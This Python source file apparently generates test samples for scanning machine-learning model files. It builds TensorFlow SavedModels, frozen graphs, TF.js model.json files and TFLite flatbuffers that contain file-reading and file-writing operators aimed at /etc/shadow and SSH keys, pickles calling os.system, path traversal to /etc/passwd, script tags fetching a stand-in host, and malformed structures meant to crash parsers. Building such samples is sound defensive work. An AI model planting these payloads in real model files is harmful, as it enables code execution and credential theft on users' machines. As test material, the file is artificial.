"""TensorFlow graphs that read, write, run Python or crash; as SavedModel, frozen graph, checkpoint, TF.js and TFLite."""

import json
import os
import struct

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

from assemble import call
from malicious.keras_files import LAMBDA_2, LAMBDA_3, legacy, sequential
from payload import COMMAND, SECRET, URL
from registry import malicious
from tensorflow.core.framework import graph_pb2
from tensorflow.core.protobuf import meta_graph_pb2, saved_model_pb2

DT_STRING, DT_FLOAT, DT_INT64 = 7, 1, 9


def constant(graph, name: str, value):
    """A Const node with a string or a number."""
    node = graph.node.add(name=name, op="Const")
    tensor = node.attr["value"].tensor
    tensor.tensor_shape.SetInParent()
    if isinstance(value, str):
        tensor.dtype = node.attr["dtype"].type = DT_STRING
        tensor.string_val.append(value.encode())
    else:
        tensor.dtype = node.attr["dtype"].type = DT_FLOAT
        tensor.float_val.append(value)
    return name


def node(graph, name, op, inputs=(), **attributes):
    made = graph.node.add(name=name, op=op, input=inputs)
    for key, value in attributes.items():
        if isinstance(value, str):
            made.attr[key].s = value.encode()
        elif isinstance(value, int):
            made.attr[key].i = value
    return made


# Operator, its string inputs or attributes, and whether it is in the peers' lists or not.
OPERATORS = {
    "ReadFile": [SECRET], "WriteFile": ["/tmp/pwned-test", "x"], "MatchingFiles": ["/root/.ssh/*"], "FixedLengthRecordReaderV2": [], "WholeFileReaderV2": [], "TextLineReaderV2": [], "PyFunc": [], "PyFuncStateless": [], "EagerPyFunc": [],
    "SaveV2": ["/tmp/pwned-test", "a", ""], "RestoreV2": ["/etc/shadow", "a", ""], "MergeV2Checkpoints": ["/etc/a", "/etc/b"], "ShardedFilename": ["/etc/cron.d/x"], "PrintV2": ["secret"], "AudioSummary": [], "LookupTableExportV2": [], "InitializeTableFromTextFileV2": ["t", SECRET],
    "TextLineDataset": [SECRET], "FixedLengthRecordDatasetV2": ["/dev/mem"], "TFRecordDataset": ["http://192.0.2.1/x"], "CSVDataset": [SECRET], "SqlDataset": ["sqlite", "/root/x.db", "select 1"], "DatasetToTFRecord": ["d", "/tmp/pwned-test"], "SaveDataset": ["d", "/tmp/pwned-test"], "LoadDataset": ["/tmp/x"], "SnapshotDatasetV2": ["d", "/tmp/pwned-test"],
    "DebugIdentityV2": [], "DebugNumericSummary": [], "CollectiveReduceV2": [], "RpcCall": ["grpc://192.0.2.1:8500"], "RPC": ["192.0.2.1:8500", "/m", "x"], "TryRpc": ["192.0.2.1:8500"], "ExperimentalDatasetToTFRecord": ["d", "/tmp/pwned-test"], "DataServiceDatasetV2": ["grpc", "192.0.2.1:5050"], "RegisterDataset": ["192.0.2.1"], "SummaryWriter": [], "CreateSummaryFileWriter": ["w", "/tmp/pwned-test"], "CreateSummaryDbWriter": ["w", "/tmp/x.db"],
    "DecodeProtoV2": [], "GenerateVocabRemapping": ["/etc/a", "/etc/b"], "LoadAndRemapMatrix": ["/etc/shadow"], "ReaderReadV2": [], "XlaLaunch": [], "NonExistingCustomShellOp": [], "ImmutableConst": [], "TemporaryVariable": [], "IteratorFromStringHandleV2": ["h"], "DeleteSessionTensor": ["x"], "Assert": ["x"], "LogUncaughtExceptions": [], "AbortOp": [], "Abort": [],
}
ATTRIBUTES = {
    "PyFunc": {"token": "pyfunc_0"}, "EagerPyFunc": {"token": "pyfunc_0"}, "PyFuncStateless": {"token": "p"}, "ImmutableConst": {"memory_region_name": SECRET}, "PrintV2": {"output_stream": "file:///tmp/pwned-test"},
    "DebugIdentityV2": {"tfdbg_context_id": "x"}, "Abort": {"error_msg": "x"}, "DebugNumericSummary": {"debug_urls": "grpc://192.0.2.1:1"}, "RpcCall": {"target_address": "192.0.2.1"},
}


def graph_with(op: str):
    graph = graph_pb2.GraphDef()
    graph.versions.producer = 1000
    inputs = [constant(graph, f"c{index}", value) for index, value in enumerate(OPERATORS[op])]
    node(graph, "x", "Placeholder").attr["dtype"].type = DT_FLOAT
    node(graph, "evil", op, inputs, **ATTRIBUTES.get(op, {}))
    node(graph, "out", "Identity", ["x", "^evil"]).attr["T"].type = DT_FLOAT
    return graph


def saved_model(graph, functions=False) -> bytes:
    model = saved_model_pb2.SavedModel(saved_model_schema_version=1)
    meta = model.meta_graphs.add()
    meta.meta_info_def.tags.append("serve")
    meta.meta_info_def.tensorflow_version = "2.15.0"
    if functions:
        function = meta.graph_def.library.function.add()
        function.signature.name = "__inference_serve_1"
        function.node_def.extend(graph.node)
    else:
        meta.graph_def.CopyFrom(graph)
    signature = meta.signature_def["serving_default"]
    signature.inputs["x"].name, signature.outputs["y"].name = "x:0", "out:0"
    return model.SerializeToString()


def folder(pb: bytes, **more) -> dict:
    return {"saved_model.pb": pb, "variables/variables.index": b"", **more}


@malicious("tensorflow")
def saved_model_operators():
    """A SavedModel whose graph or function library has an operator with an effect, with its arguments."""
    for index, op in enumerate(OPERATORS):
        data = saved_model(graph_with(op), functions=index % 2 == 0)
        if index % 3 == 0:
            yield f"{op}--folder", folder(data)
        else:
            yield f"{op}--saved_model.pb", data


@malicious("tensorflow")
def frozen_graph_operators():
    """A frozen GraphDef with an operator with an effect."""
    for op in ("ReadFile", "WriteFile", "PyFunc", "EagerPyFunc", "MatchingFiles", "SaveV2", "ImmutableConst", "NonExistingCustomShellOp", "RestoreV2", "TextLineDataset", "RPC"):
        yield f"{op}--frozen_graph.pb", graph_with(op).SerializeToString()
    yield "text--graph.pbtxt", str(graph_with("ReadFile")).encode()
    yield "text-write--graph.pbtxt", str(graph_with("WriteFile")).encode()


@malicious("tensorflow")
def meta_graphs():
    """MetaGraphDef (.meta) files with operators, and collections that hold pickles or code."""
    for op in ("ReadFile", "PyFunc", "WriteFile"):
        meta = meta_graph_pb2.MetaGraphDef()
        meta.graph_def.CopyFrom(graph_with(op))
        yield f"{op}--model.ckpt.meta", meta.SerializeToString()
    meta = meta_graph_pb2.MetaGraphDef()
    meta.graph_def.CopyFrom(graph_pb2.GraphDef())
    meta.collection_def["py_objects"].bytes_list.value.append(call("os", "system", COMMAND))
    yield "pickle-collection--model.meta", meta.SerializeToString()
    meta = meta_graph_pb2.MetaGraphDef()
    meta.saver_def.filename_tensor_name = "../../etc/passwd"
    meta.graph_def.CopyFrom(graph_with("RestoreV2"))
    yield "saver-path--model.meta", meta.SerializeToString()


@malicious("tensorflow")
def saved_model_around():
    """What lies beside or inside a SavedModel: Keras metadata with Lambda, traversal in assets, pickles and libraries as assets."""
    clean = graph_pb2.GraphDef()
    node(clean, "x", "Placeholder").attr["dtype"].type = DT_FLOAT
    node(clean, "out", "Identity", ["x"]).attr["T"].type = DT_FLOAT
    keras = saved_model_pb2.SavedModel()
    keras.ParseFromString(saved_model(clean))
    objects = keras.meta_graphs[0].object_graph_def
    user = objects.nodes.add().user_object
    user.identifier, user.metadata = "_tf_keras_layer", json.dumps({"class_name": "Lambda", "name": "lambda", **{"config": LAMBDA_2["config"]}})
    yield "keras-metadata-in-graph--saved_model.pb", keras.SerializeToString()
    yield "pickle-asset--folder", folder(saved_model(clean), **{"assets/vocab.pkl": call("os", "system", COMMAND)})
    yield "library-asset--folder", folder(saved_model(clean), **{"assets.extra/op.so": b"\x7fELF\x02\x01\x01" + bytes(400)})
    yield "python-asset--folder", folder(saved_model(clean), **{"assets/setup.py": b"import os\nos.system('id')\n"})
    model = saved_model_pb2.SavedModel()
    model.ParseFromString(saved_model(clean))
    asset = model.meta_graphs[0].asset_file_def.add()
    asset.filename, asset.tensor_info.name = "../../../../etc/passwd", "x:0"
    yield "asset-traversal--saved_model.pb", model.SerializeToString()
    yield "keras-metadata-file--folder", folder(saved_model(clean), **{"keras_metadata.pb": _keras_metadata()})
    yield "init-op-writes--saved_model.pb", _init_op()
    yield "text-form--saved_model.pbtxt", _pbtxt()
    dense = graph_pb2.GraphDef()
    huge = dense.node.add(name="c", op="Const")
    huge.attr["value"].tensor.dtype = DT_FLOAT
    for _ in range(4):
        huge.attr["value"].tensor.tensor_shape.dim.add(size=1 << 40)
    yield "huge-constant--saved_model.pb", saved_model(dense)
    negative = graph_pb2.GraphDef()
    bad = negative.node.add(name="c", op="Const")
    bad.attr["value"].tensor.dtype = DT_FLOAT
    bad.attr["value"].tensor.tensor_shape.dim.add(size=-9)
    yield "negative-dimension--saved_model.pb", saved_model(negative)
    yield "truncated--saved_model.pb", saved_model(graph_with("ReadFile"))[:-25]


def _keras_metadata() -> bytes:
    from google.protobuf.internal.encoder import _VarintBytes

    metadata = json.dumps({"class_name": "Lambda", "config": LAMBDA_2["config"]}).encode()

    def field(number, data):
        return _VarintBytes(number << 3 | 2) + _VarintBytes(len(data)) + data

    entry = b"\x10\x01" + field(3, b"root.layer-0") + field(4, b"_tf_keras_layer") + field(5, metadata)
    return field(1, entry)


def _init_op() -> bytes:
    model = saved_model_pb2.SavedModel()
    model.ParseFromString(saved_model(graph_with("WriteFile")))
    model.meta_graphs[0].collection_def["legacy_init_op"].node_list.value.append("evil")
    model.meta_graphs[0].signature_def["__saved_model_init_op"].outputs["__saved_model_init_op"].name = "evil"
    return model.SerializeToString()


def _pbtxt() -> bytes:
    model = saved_model_pb2.SavedModel()
    model.ParseFromString(saved_model(graph_with("ReadFile")))
    return str(model).encode()


@malicious("tfjs")
def layers_and_graph_models():
    """TF.js model.json: Lambda or foreign classes in the topology, weight paths that leave the folder or name a server, operators with an effect."""
    def layers_model(topology, paths=("group1-shard1of1.bin",)):
        return json.dumps({"format": "layers-model", "generatedBy": "keras v2.15.0", "convertedBy": "TensorFlow.js Converter v4.0", "modelTopology": {"keras_version": "2.15.0", "backend": "tensorflow", "model_config": topology}, "weightsManifest": [{"paths": list(paths), "weights": [{"name": "dense/kernel", "shape": [4, 4], "dtype": "float32"}]}]}).encode()

    def graph_model(op, **extra):
        return json.dumps({"format": "graph-model", "generatedBy": "2.15.0", "modelTopology": {"node": [{"name": "x", "op": "Placeholder"}, {"name": "evil", "op": op, "input": ["x"]}], "library": {}, "versions": {}}, "weightsManifest": [{"paths": ["group1-shard1of1.bin"], "weights": []}], **extra}).encode()

    dense = legacy({"class_name": "Dense", "config": {"units": 4}})
    yield "lambda--model.json", layers_model(legacy(LAMBDA_2))
    yield "lambda3--model.json", layers_model(sequential(LAMBDA_3))
    yield "custom-class--model.json", layers_model(legacy({"class_name": "EvilLayer", "config": {"code": "fetch('http://192.0.2.1')"}}))
    yield "path-traversal--model.json", layers_model(dense, ["../../../../etc/passwd"])
    yield "absolute-path--model.json", layers_model(dense, ["/etc/passwd"])
    yield "url-path--model.json", layers_model(dense, [URL])
    yield "file-url--model.json", layers_model(dense, ["file:///etc/passwd"])
    for op in ("ReadFile", "WriteFile", "PyFunc", "EvilCustomOp"):
        yield f"graph-{op}--model.json", graph_model(op)
    yield "script-metadata--model.json", graph_model("Identity", userDefinedMetadata={"onload": "<script>fetch('http://192.0.2.1')</script>"})
    yield "prototype-pollution--model.json", layers_model({"class_name": "Sequential", "config": {"layers": [], "__proto__": {"polluted": True}}})
    huge = json.loads(layers_model(dense))
    huge["weightsManifest"][0]["weights"][0]["shape"] = [10**9, 10**9]
    yield "huge-shape--model.json", json.dumps(huge).encode()
    huge["weightsManifest"][0]["weights"][0]["shape"] = [-1, 4]
    yield "negative-shape--model.json", json.dumps(huge).encode()


@malicious("tflite")
def tflite_structures():
    """TFLite flatbuffers with flex and custom operators, indices out of bounds, huge shapes, hostile offsets, appended archives."""
    def changed(change, **more):
        model = TfliteModel(**more)
        change(model)
        return model.pack()

    def custom(name):
        def change(model):
            model.codes = [(32, name)]
        return change

    for name in ("FlexReadFile", "FlexWriteFile", "FlexPyFunc", "FlexEagerPyFunc", "FlexMatchingFiles", "EvilShellOp", "FlexSaveV2", "FlexTextLineDataset"):
        yield f"{name}--model.tflite", changed(custom(name))
    base = TfliteModel().pack()
    yield "subgraph-input-out-of-bounds--model.tflite", changed(lambda m: setattr(m, "inputs", [99999]))
    yield "negative-tensor-index--model.tflite", changed(lambda m: setattr(m, "op_inputs", [-5, 1 << 30]))
    yield "output-out-of-bounds--model.tflite", changed(lambda m: setattr(m, "op_outputs", [77]))
    yield "buffer-out-of-bounds--model.tflite", changed(lambda m: setattr(m, "buffer_index", 4_000_000))
    yield "opcode-out-of-bounds--model.tflite", changed(lambda m: setattr(m, "opcode_index", 500))
    yield "negative-shape--model.tflite", changed(lambda m: setattr(m, "shape", [-4, 4]))
    yield "overflowing-shape--model.tflite", changed(lambda m: setattr(m, "shape", [1 << 30, 1 << 30, 1 << 30]))
    yield "buffer-shorter-than-shape--model.tflite", changed(lambda m: (setattr(m, "shape", [1000, 1000]), setattr(m, "data", b"abcd")))
    yield "root-offset-beyond--model.tflite", struct.pack("<I", 0x7FFFFFF0) + base[4:]
    yield "vtable-beyond--model.tflite", _poke_vtable(base)
    yield "truncated--model.tflite", base[: len(base) // 2]
    yield "appended-zip--model.tflite", base + b"PK\x03\x04" + b"evil.py".ljust(60, b"\0") + call("os", "system", COMMAND)
    yield "appended-elf--model.tflite", base + b"\x7fELF\x02\x01\x01" + bytes(300)
    yield "payload-in-buffer--model.tflite", changed(lambda m: setattr(m, "data", b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00\x3e\x00" + bytes(44)))
    yield "pickle-in-metadata--model.tflite", changed(lambda m: setattr(m, "metadata", ("config", call("os", "system", COMMAND))))
    yield "pickle-renamed--model.tflite", call("os", "system", COMMAND)
    yield "self-recursive-while--model.tflite", changed(lambda m: setattr(m, "codes", [(119, None)]))


def _poke_vtable(base: bytes) -> bytes:
    root = struct.unpack_from("<I", base, 0)[0]
    return base[:root] + struct.pack("<i", -0x7FFFFF00) + base[root + 4 :]


class TfliteModel:
    """A one-operator TFLite model whose every field can be set to something else."""

    def __init__(self):
        self.codes, self.opcode_index = [(0, None)], 0
        self.inputs, self.outputs = [0], [1]
        self.op_inputs, self.op_outputs = [0, 0], [1]
        self.shape, self.buffer_index, self.data = [1, 4], 1, bytes(16)
        self.metadata = None

    def pack(self) -> bytes:
        import flatbuffers

        b = flatbuffers.Builder(1024)

        def ints(values):
            b.StartVector(4, len(values), 4)
            for value in reversed(values):
                b.PrependInt32(value)
            return b.EndVector()

        def offsets(values):
            b.StartVector(4, len(values), 4)
            for value in reversed(values):
                b.PrependUOffsetTRelative(value)
            return b.EndVector()

        def table(*fields):
            b.StartObject(max(slot for slot, _, _ in fields) + 1)
            for slot, kind, value in fields:
                {"o": b.PrependUOffsetTRelativeSlot, "i": b.PrependInt32Slot, "u": b.PrependUint32Slot, "b": b.PrependInt8Slot}[kind](slot, value, 0)
            return b.EndObject()

        codes = []
        for number, custom in self.codes:
            name = b.CreateString(custom) if custom else None
            fields = [(0, "b", min(number, 127)), (2, "i", 1), (3, "i", number)]
            codes.append(table(*(fields + ([(1, "o", name)] if custom else []))))
        codes = offsets(codes)
        shape, name = ints(self.shape), b.CreateString("x")
        tensor0 = table((0, "o", shape), (2, "u", self.buffer_index), (3, "o", name))
        shape, name = ints([1, 4]), b.CreateString("y")
        tensor1 = table((0, "o", shape), (2, "u", 0), (3, "o", name))
        tensors = offsets([tensor0, tensor1])
        op_in, op_out = ints(self.op_inputs), ints(self.op_outputs)
        operators = offsets([table((0, "u", self.opcode_index), (1, "o", op_in), (2, "o", op_out))])
        inputs, outputs = ints(self.inputs), ints(self.outputs)
        subgraphs = offsets([table((0, "o", tensors), (1, "o", inputs), (2, "o", outputs), (3, "o", operators))])
        made = [self._empty(b)]
        data = b.CreateByteVector(self.data)
        made.append(table((0, "o", data)))
        metadata = None
        if self.metadata:
            meta_data = b.CreateByteVector(self.metadata[1])
            made.append(table((0, "o", meta_data)))
            meta_name = b.CreateString(self.metadata[0])
            metadata = offsets([table((0, "o", meta_name), (1, "u", 2))])
        buffers = offsets(made)
        description = b.CreateString("benchmark")
        fields = [(0, "u", 3), (1, "o", codes), (2, "o", subgraphs), (3, "o", description), (4, "o", buffers)]
        if metadata:
            fields.append((6, "o", metadata))
        b.Finish(table(*fields), file_identifier=b"TFL3")
        return bytes(b.Output())

    @staticmethod
    def _empty(builder):
        builder.StartObject(0)
        return builder.EndObject()
